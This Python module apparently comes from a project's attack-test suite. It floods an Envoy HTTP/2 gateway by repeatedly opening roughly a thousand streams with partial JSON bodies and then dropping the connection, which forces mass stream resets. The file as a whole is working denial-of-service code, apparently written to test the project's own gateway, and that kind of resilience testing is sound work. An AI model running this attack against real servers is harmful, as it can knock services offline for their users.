"""A client that opens as many streams as it may, begins a body on each, and leaves: Envoy resets all at once."""

import asyncio

from extproc.http2 import frames as http2
from tests.attack.http2_client import raw_client
from tests.attack.target import Target

STREAMS = 1_020


async def attack(target: Target) -> None:
    """Open, leave, and do it again."""
    target.begin()
    host, port = target.gateway_address()
    while True:
        async with raw_client(host, port) as client:
            for _ in range(STREAMS):
                stream, head = client.open(target.gateway, content_type=b"application/json", content_length=b"100")
                try:
                    await client.send(head + http2.frame(http2.DATA, 0, stream, b'{"model": "tiny"'))
                except ConnectionError:
                    break
            await asyncio.sleep(0.3)
        target.done += 1
        await asyncio.sleep(0.2)
